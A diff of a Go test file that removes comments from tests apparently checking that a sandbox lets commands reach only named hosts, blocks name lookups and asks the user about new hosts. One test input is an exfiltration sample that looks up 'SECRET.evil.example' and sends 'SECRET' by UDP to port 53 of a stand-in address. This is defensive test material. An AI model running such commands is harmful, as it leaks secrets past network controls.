@@ -115,8 +115,6 @@ func (p *hostsPlace) reached() string {
 	return all
 }
 
-// After private words a command reaches this machine, registries, remotes and what the user or a
-// rule named, however it gets there, and nobody else, however it tries.
 func TestACommandSpeaksToNamedHostsOnly(t *testing.T) {
 	p := newHostsPlace(t)
 	const python = `python3 -c 'import socket, sys
@@ -172,7 +170,6 @@ while True:
 	}
 }
 
-// A name that is looked up could carry what nobody may read. It goes nowhere.
 func TestNoNameIsLookedUpForACommand(t *testing.T) {
 	p := newHostsPlace(t)
 	output := p.run(t, p.env, "getent ahosts SECRET.evil.example; python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"SECRET\", (\"203.0.113.53\", 53))'")
@@ -181,8 +178,6 @@ func TestNoNameIsLookedUpForACommand(t *testing.T) {
 	}
 }
 
-// Where the user can be asked, a host is a question that names the command and the host. It is
-// asked once for all connections, and "always" holds for later commands.
 func TestTheUserIsAskedAboutAHost(t *testing.T) {
 	p := newHostsPlace(t)
 	var asked []string
